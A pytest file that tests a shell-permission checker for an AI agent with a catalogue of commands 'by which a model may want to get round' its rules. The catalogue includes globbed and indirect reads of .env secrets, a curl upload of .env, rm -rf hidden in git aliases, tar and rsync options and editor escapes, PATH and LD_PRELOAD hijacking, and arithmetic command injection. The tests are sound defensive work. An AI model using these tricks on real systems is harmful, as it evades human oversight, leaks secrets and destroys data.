"""Lines by which a model may want to get round modes and rules, by their kind.

Each of these was run under a tracer first: the tables say what bash and the programs did.
"""

from __future__ import annotations

import time
from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from executor.errors import ConfigError
from executor.loop import rules_of
from executor.model import LoopSpec
from executor.permissions import Mode, Verdict, is_host
from executor.rules import Rules, may_meet
from executor.shell import analyse
from tests.fuzzing import cases
from tests.test_permissions import CATALOG, KNOWN, command, judged

ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY


def verdict(
    text: str, mode: Mode = Mode.BYPASS, *, deny: Sequence[str] = (), allow: Sequence[str] = ()
) -> Verdict:
    """The verdict on a command line under rules of any kind."""
    rules = Rules.parse(allow, deny=deny, known=KNOWN)
    return judged("run_command", mode, rules, command=text).verdict


# ─── variables that change what later commands do ───────────────────────────────────

ALTERING = [
    *("PATH=/x; {}", "PATH=/x && {}", "PATH+=:x; {}", "({{ PATH=/x; }}; {})", "PATH=(x); {}"),
    *("read PATH <<< /x; {}", "read -r a PATH < f; {}", "read -aPATH <<< x; {}"),
    *("IFS=: read PATH y <<< x; {}", "builtin read PATH <<< x; {}", "mapfile PATH < f; {}"),
    *("while read PATH; do {}; done < f", "for PATH in /x; do {}; done", "wait -n -p PATH; {}"),
    *("printf -v PATH x; {}", "getopts a PATH; {}", ": ${{PATH:=x}}; {}", "((PATH=1)); {}"),
    *("for ((PATH=0;PATH<1;PATH++)); do {}; done", "unset PATH; {}", "unset -v PATH; {}"),
    *("export PATH=/x; {}", 'export "PATH=/x"; {}', "export $'PATH=/x'; {}"),
    *("export P\\ATH=/x; {}", "trap 'PATH=/x' DEBUG; {}"),
    *("builtin export PATH=/x; {}", "command export PATH=/x; {}", "declare -g 'PATH'=/x; {}"),
    *("readonly PATH=/x; {}", "eval PATH=/x; {}", "sh -c 'PATH=/x; {}'"),
    *("f() {{ PATH=/x; }}; f; {}", "HOME=/x; {}", "export GIT_PAGER=x; {}", "{}; LD_PRELOAD=x"),
    *("read GIT_EXTERNAL_DIFF <<< x; export GIT_EXTERNAL_DIFF; {}",),
]  # fmt: skip


@pytest.mark.parametrize("place", ALTERING)
def test_no_line_that_alters_its_programs_only_reads(place: str) -> None:
    """After PATH and its like are given a value, in whatever way, nothing is sure to read."""
    line = place.format("git log")
    script = analyse(line)
    assert not script.is_read_only
    assert command(line) is ASK
    assert command(line, Mode.PLAN) is DENY
    assert command(line, allow=["git log", "read *", "printf *", "export *"]) is ASK


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("export MAKEFLAGS=--eval=x; make", ASK),
        ("export 'CC=./x'; make", ASK),
        ("CC=./x; export CC; make", ASK),
        ("declare -x CC=./x; make", ASK),
        ("make; export CC=./x", ASK),
        ("export LC_ALL=C; make", ALLOW),
        ("CC=./x; make", ALLOW),
        ("x=1; make $x", ALLOW),
        ("unset x; make", ALLOW),
    ],
)
def test_what_is_exported_stands_before_each_command(line: str, expected: Verdict) -> None:
    """`export X=1; make` is no more allowed than `X=1 make` by a rule for make."""
    assert command(line, allow=["make *"]) is expected


@pytest.mark.parametrize(
    "line",
    [
        *("IFS=,; echo a", "unset IFS; ls", "export FOO=1; ls", "x=5; echo $((x))", "read x; ls"),
        *("declare x=5; echo $((x))", "RANDOM=5; echo $RANDOM"),
        *("while IFS= read -r l; do ls; done",),
    ],
)  # fmt: skip
def test_variables_of_the_lines_own_alter_nothing(line: str) -> None:
    """They need no question."""
    assert command(line) is ALLOW


@pytest.mark.parametrize(
    "line",
    [
        *("RANDOM={}", "OPTIND={}", "SRANDOM={}", "HISTCMD={}", "export RANDOM={}"),
        *("read RANDOM <<< {}", "printf -v RANDOM %s {}", "for RANDOM in {}; do :; done"),
        *('export "RANDOM="{}', "declare RANDOM={}", "mapfile RANDOM <<< {}", "RANDOM={} ls"),
        *("echo ${{RANDOM:={}}}",),
    ],
)
def test_integers_of_the_shell_are_evaluated(line: str) -> None:
    """`RANDOM='a[$(rm x)]'` runs rm: its value is arithmetic."""
    assert analyse(line.format("'a[$(rm x)]'")).fault


# ─── what is known of a command stays known ─────────────────────────────────────────

SECRET = ["read_file(**/.env*)"]


@pytest.mark.parametrize(
    "line",
    [
        # a variable or an option that is not known
        *("LD_PRELOAD=x cat .env", "PATH=x; cat .env", "sed 's/a/b/e' .env", "date -f .env"),
        *("wc --odd .env", "sort -T . .env", "tree --gitfile=.env", "du --exclude-f=.env"),
        # a program that is not known
        *("xxd .env", "source .env", ". ./.env", "bash .env", "python3 x.py .env", "less .env"),
        *("openssl enc -in .env", "curl -F f=@.env x", "vim -s.env", "xargs -a .env"),
        *("git add .env",),
        # words of the line that a command may be given
        *("x=.env; cat $x", "for f in .env; do cat $f; done", "echo .env | xargs cat"),
        *("cat $(echo .env)", "set -- .env; cat $1"),
        # a directory that is not known
        *("cd $x; cat .env", "cd d*; cat < .env", "cd -; cat ./.env", "cd -P l && cat ../.env"),
        # globs
        *("cat .e*", "cat .en?", "cat .[e]nv", "cat .[[:alpha:]]nv", "cat d/.e*", "cat */.env"),
        *("cat $PWD/.e*", 'cat .e"n"*', "cp .e* /tmp", "xxd .e*", "cat /w*/.e*"),
        *("find . -name .env -exec cat {} +", "find .e* -exec cat {} +"),
        *("shopt -s dotglob; cat *", "shopt -s nocaseglob; cat .E*", "mv .e* /tmp"),
        # git
        *("git diff .env", "git show HEAD:.env", "git log -p -- .env", "git blame .env"),
        *("git cat-file -p HEAD:d/.env", "git show HEAD:./.env"),
        # options by which more is read
        *("join -i .env f", "column -t .env", "od -w .env", "grep --fil=.env f"),
        *("ln .env q", "install .env q"),
    ],
)  # fmt: skip
def test_a_secret_that_is_spelt_is_not_read(line: str) -> None:
    """Whatever else is unknown: refused where nobody asks, and asked about elsewhere."""
    assert verdict(line, deny=SECRET) is DENY
    assert verdict(line, Mode.DEFAULT, deny=SECRET) in (ASK, DENY)


@pytest.mark.parametrize(
    "line",
    [
        *("cat *", "cat src/*.py", "xxd a", "ls .env", "stat .e*", "x=a; cat $x", "python x.py"),
        *("git diff src", "git show HEAD:src/a", "echo .env", "find . -name '*.py' -exec cat {} +"),
        *("echo .env; make", "cat ./*"),
    ],
)
def test_a_rule_on_secrets_leaves_the_rest_alone(line: str) -> None:
    """No star of a glob takes a first dot, and names are no contents."""
    assert verdict(line, deny=SECRET) is ALLOW


@pytest.mark.parametrize(
    "line",
    [
        *("rm -rf s*", "rm -rf *", "rm -rf .", "rm -rf ../workspace/s*", "mv s* /tmp", "mv . /tmp"),
        *("rm --odd src/a", "x=src; rm -rf $x", "cd $y; rm src/a", "chmod -R 0 s*", "rm -rf /"),
        *("sed -i d s*/*", "tar xf t.tar", "cp -l src/a q", "ln src/a q", "find . -delete"),
        *(
            "echo > s*/q",
            "rm -rf s[r]c",
            "rm -rf /*",
            "rm -rf /w*/s*",
            "install -d q src/r",
            "PATH=x; rm src/a",
        ),
    ],
)
def test_a_directory_that_is_kept_is_not_lost_by_a_pattern_or_with_one_above(line: str) -> None:
    """Globs, directories above and words that can't be known: refused where nobody asks."""
    assert verdict(line, deny=["edit_file(/src/**)"]) is DENY


@pytest.mark.parametrize("line", ["rm -rf build", "rm *.pyc", "pytest src", "mv a b", "make"])
def test_a_directory_that_is_kept_leaves_others_alone(line: str) -> None:
    """What is elsewhere, or is not known to write, goes on."""
    assert verdict(line, deny=["edit_file(/src/**)"]) is ALLOW


@pytest.mark.parametrize(
    ("pattern", "glob", "expected"),
    [
        (".env", ".e*", True),
        (".env", "*", False),
        ("*.pem", "k*", True),
        ("*.pem", "*.py", False),
        ("secrets/**", "s*", True),
        ("secrets/**", "src/*", False),
        ("/src/a.py", "", True),
        ("/src/a.py", "src", True),
        (".env", "", False),
        ("**", "x*", True),
        ("//etc/x", "/etc/*", True),
        ("//etc/x", "a*", False),
        (".env", "/tmp/.e*", True),
        ("/a", "/tmp/a*", False),
        ("a/**/z", "a/b/c/*", True),
        ("a/b", "*/c", False),
        ("d/e", "**/e", True),
        ("secrets/k", "**/k", True),
        (".env*", "**/*.py", False),
        ("a\\*b", "a\\*b", True),
        ("a\\*b", "acb", False),
        ("!x", "x*", False),
        ("a", "/".join("a" * 200), True),
        ("a*" * 600, "*a" * 600, True),
    ],
)
def test_patterns_and_globs_meet(pattern: str, glob: str, expected: bool) -> None:
    """Where there could be a file that both mean, or the pattern's beginning is below."""
    assert may_meet(pattern, glob) is expected


# ─── what programs do by their options ──────────────────────────────────────────────


@pytest.mark.parametrize(
    "line",
    [
        *("git -c alias.x='!rm -rf src' x", "git --no-pager -c Alias.X='!rm y' x"),
        *("git -c core.sshCommand='rm x' fetch", "git -c diff.x.textconv='rm x' log -p"),
        *("git rebase -x 'rm x' HEAD", "git rebase --exec='rm x' HEAD", "git bisect run rm x"),
        *("git submodule foreach --recursive 'rm x'", "git difftool -x 'rm x'"),
        *("git filter-branch --tree-filter 'rm x' HEAD", "tar xf a --to-command='rm x'"),
        *("tar cf b a --checkpoint=1 --checkpoint-action=exec='rm x'", "tar xf a -I 'rm x'"),
        *("tar --use-compress='rm x' -xf a", "rsync -ae 'rm x' a h:b", "rsync --rsh='rm x' a h:b"),
        *("vim -es -c '!rm x'", "ex -c ':silent !rm x'", "vi '+!rm x'", "gdb -ex 'shell rm x'"),
        *("echo rm x | parallel", "parallel ::: 'rm x'", "echo x | parallel rm"),
    ],
)
def test_a_denied_program_is_found_in_an_option_that_runs_it(line: str) -> None:
    """What an option, a setting or an alias of a known program runs is a command, too."""
    assert command(line, Mode.BYPASS, deny=["rm"]) is DENY


@pytest.mark.parametrize("line", ["git -c alias.p=push p", "git -c 'alias.p=push --force' p"])
def test_an_alias_is_what_it_stands_for(line: str) -> None:
    """A rule on a subcommand of git holds for an alias of the line's own."""
    assert command(line, Mode.BYPASS, deny=["git push"]) is DENY


@pytest.mark.parametrize("line", ["rsync -e ssh a h:b", "tar -I zstd -xf a", "vim -c 'set nu' a"])
def test_what_such_options_are_there_for_is_no_command_of_its_own(line: str) -> None:
    """A rule that allows the program speaks of them."""
    assert command(line, allow=["rsync *", "tar *", "vim *"]) is ALLOW


@pytest.mark.parametrize(
    ("line", "writes"),
    [
        ("cp -b a b", None),
        ("cp --backup a b", None),
        ("mv -S .z -b a b", None),
        ("ln -sb a b", None),
        ("install -s a b", None),
        ("install -d q r", {"q", "r"}),
        ("install -m 755 a q", {"q"}),
        ("ln a q", {"a", "q"}),
        ("ln -s a q", {"q"}),
        ("cp -l a q", {"a", "q"}),
        ("flock l true", None),
        ("strace -o q ls", None),
        ("time rm a", {"a"}),
    ],
)
def test_what_options_make_a_program_write_is_told(line: str, writes: set[str] | None) -> None:
    """A backup beside the file, a lock, a trace; a hard link is written with its other name."""
    said = analyse(line).writes
    assert (said is None) is (writes is None)
    assert said is None or set(said) == {f"/workspace/{path}" for path in writes or ()}


@pytest.mark.parametrize(
    "line",
    [
        *("wc --files0=l", "md5sum --che l", "cksum -c l", "cksum --check l", "grep --fil=l x"),
        "du --exclude-f=l",
    ],
)
def test_options_may_be_shortened(line: str) -> None:
    """The beginning of an option that reads more is that option."""
    assert analyse(line).reads is None


def test_time_runs_in_the_shell_itself() -> None:
    """`time cd d` moves the shell, as bash's own word; the program of that name does not."""
    script = analyse("time cd d && cat a")
    assert script.changes_directory
    assert script.reads == frozenset({"/workspace/d/a"})
    assert analyse("\\time cd d; cat a").reads == frozenset({"/workspace/a"})


@pytest.mark.parametrize(
    "line",
    [
        *("trap exit EXIT; rm src/a", "trap 'exit 1' ERR; rm src/a", "trap 'cd d' DEBUG; rm src/a"),
        *("mapfile -C exit x < f; rm src/a", "trap 'ls' EXIT; rm src/a"),
    ],
)
def test_what_a_trap_does_is_not_done_yet(line: str) -> None:
    """The shell goes on behind a trap that ends it, and may be anywhere behind one that moves."""
    assert verdict(line, deny=["edit_file(/src/**)"]) is DENY
    assert analyse(line).writes in (None, frozenset({"/workspace/src/a"}))


@pytest.mark.parametrize(
    "line",
    [
        *("awk 'NR>1' f", "awk '$1>2{print $1}' f", "awk '/a|b/' f", "awk 'NR==1||NR==2' f"),
        *("awk '{print $1 || $2}' f", "find . -newermt 2020-01-01", "find . -newerct yesterday"),
    ],
)
def test_harmless_lines_are_not_asked_about(line: str) -> None:
    """`>` and `|` of awk redirect only what is printed; times of find are no files."""
    assert command(line, Mode.PLAN) is ALLOW


@pytest.mark.parametrize(
    "line",
    [
        *("awk '{x=1;print x > \"q\"}' f", 'awk \'{printf "x"|"sh"}\'', "awk '\"x\"|getline'"),
        *("awk '{print > $1}' f", "gawk 'BEGIN{SYMTAB[\"x\"]}'", "gawk '{print |& \"sh\"}'"),
        *("awk 'BEGIN{pri\\\nnt > \"q\"}'", "find . -newermt x -delete"),
    ],
)
def test_what_only_looks_like_those_is(line: str) -> None:
    """A redirect of awk's and an action of find's."""
    assert command(line) is ASK


# ─── rules that can never match ─────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("rule", "fault"),
    [
        ("run_command(ls; rm)", "words of one command"),
        ("Bash(ls | rm)", "words of one command"),
        ("run_command(rm > x)", "words of one command"),
        ("run_command(git push &)", "words of one command"),
        ("run_command(rm $HOME)", "words of one command"),
        ("run_command(`x`)", "words of one command"),
        ("run_command(if *)", "shell's own word"),
        ("run_command(rm\u200b)", "not seen"),
        ("run_command(-x)", "no program"),
        ("run_command(a/)", "no program"),
        ("run_command('')", "no program"),
        ("run_command(~/bin/x)", "not expanded"),
        ("run_command(domain:x.org)", "contacts no host"),
        ("Read(domain:x.org)", "contacts no host"),
        ("Read(../x)", "compared without"),
        ("Edit(./x)", "compared without"),
        ("Edit(a/../b)", "compared without"),
        ("Edit(a//b)", "compared without"),
        ("Read(~/x)", "not expanded"),
        ("Read(/workspace)", "would mean workspace"),
        ("Read( x)", "blank"),
        ("Read(!x)", "takes back"),
    ],
)
@pytest.mark.parametrize("option", ["allow", "ask", "deny"])
def test_a_rule_that_never_matches_is_a_fault(rule: str, fault: str, option: str) -> None:
    """None is taken in silence, in no list."""
    spec = LoopSpec(worktree=".", **{option: (rule,)})  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=fault):
        rules_of(spec, CATALOG)


@pytest.mark.parametrize(
    "rule",
    [
        *("run_command(find . -exec cat {} +)", "run_command(echo ';' *)", "Bash([ -f x ])"),
        *("Read(//home/sandbox/x)", "Read(**/.env)", "Read(a b/)", "Read(...)", "Read(\\!x)"),
    ],
)
def test_odd_rules_that_can_match_are_rules(rule: str) -> None:
    """What only looks like a fault is none."""
    assert rules_of(LoopSpec(worktree=".", deny=(rule,)), CATALOG).deny


def test_what_is_taken_back_was_named_before() -> None:
    """`!x` after a rule of its kind."""
    assert rules_of(LoopSpec(worktree=".", deny=("Read(*.pem)", "Read(!a.pem)")), CATALOG).deny


@pytest.mark.parametrize(
    ("shown", "canonical", "line"),
    [
        ("Bash(rm *)", "run_command(rm *)", "rm x"),
        ("bash(rm *)", "run_command(rm *)", "rm x"),
        ("Bash", "run_command", "ls"),
        ("Edit(/src/**)", "edit_file(/src/**)", "rm src/a"),
        ("Read(.env)", "read_file(.env)", "cat d/../.env"),
        ("Read", "read_file", "cat a"),
    ],
)
def test_names_of_all_toolsets_mean_the_same(shown: str, canonical: str, line: str) -> None:
    """A rule is the same by the name that a model sees and by the tool's own."""
    for rule in (shown, canonical):
        assert verdict(line, deny=[rule]) is DENY
        assert verdict(line, deny=[rule], allow=[shown, canonical, "Bash(*)"]) is DENY


@pytest.mark.parametrize(("pattern", "host"), [("x.org", "X.org."), ("*.x.org", "a.x.org."),
                                               ("[::1]", "::1")])  # fmt: skip
def test_a_host_has_one_name(pattern: str, host: str) -> None:
    """A dot at the end, capitals and brackets make no other host."""
    assert is_host(pattern, host)


# ─── properties ─────────────────────────────────────────────────────────────────────

_LINES = (
    *("ls", "rm -rf src", "cat .env", "cat .e*", "PATH=x; ls", "git -c alias.x=!rm x", "x=a; $x"),
    *("echo hi > src/a", "make", "coproc ls", "cd d; cat a", "find . -delete", "git push -f"),
)
_RULES = (
    *("run_command", "run_command(rm *)", "run_command(git push)", "run_command(*)", "read_file"),
    *("read_file(.env)", "edit_file(/src/**)", "edit_file", "read_file(a)", "run_command(make)"),
    *("run_code(rm)", "write_file", "edit_file(//etc/**)", "grep"),
)
_RANK = {DENY: 0, ASK: 1, ALLOW: 2}


@cases(150)
@given(
    line=st.sampled_from(_LINES),
    mode=st.sampled_from(list(Mode)),
    allow=st.lists(st.sampled_from(_RULES), max_size=2),
    ask=st.lists(st.sampled_from(_RULES), max_size=2),
    deny=st.lists(st.sampled_from(_RULES), max_size=2),
    more=st.sampled_from(_RULES),
)
def test_one_more_rule_that_denies_never_allows_more(
    line: str, mode: Mode, allow: list[str], ask: list[str], deny: list[str], more: str
) -> None:
    """Whatever the mode and the other rules are."""
    before = Rules.parse(allow, ask, deny, KNOWN)
    after = Rules.parse(allow, ask, [*deny, more], KNOWN)
    first = judged("run_command", mode, before, command=line).verdict
    second = judged("run_command", mode, after, command=line).verdict
    assert _RANK[second] <= _RANK[first]


LONG = {
    "options of a wrapper": "sudo " + "-u " * 9000,
    "words": "xxd " + " ".join(f"w{n}" for n in range(14_000)),
    "commands": ";".join(f"xxd w{n} $x .e*" for n in range(900)),
    "stars": "cat " + "*a" * 50_000,
    "directories": "cat " + "*/" * 40_000,
    "globs": "xxd " + " ".join(f"*{n}*a*b?" for n in range(3000)),
    "assignments": ";".join(f"x{n}=.e{n}" for n in range(2500)) + ";cat $x",
    "exports": ";".join(f"export a{n}=1" for n in range(900)),
    "paths": ";".join(f"PATH=a{n}; xxd b{n}" for n in range(900)),
    "aliases": "git " + " ".join(f"-c alias.a{n}=!ls" for n in range(900)) + " x",
    "marks": "xxd " + "=" * 100_000,
    "dots": "cat " + "../" * 30_000 + "x",
    "finds": "find . " + "-exec xxd {} \\; " * 3000,
}


@pytest.mark.parametrize("name", LONG)
def test_long_lines_are_judged_within_a_second(name: str) -> None:
    """Under rules of each kind, counted in the processor's time."""
    rules = Rules.parse(
        deny=["Bash(rm -rf)", "Read(**/.env*)", "Read(*a*b*c*d*e*)", "Edit(/a/**/b/*c)"],
        known=KNOWN,
    )
    judged("run_command", Mode.BYPASS, rules, command="ls")
    began = time.process_time()
    judged("run_command", Mode.BYPASS, rules, command=LONG[name])
    assert time.process_time() - began < 1
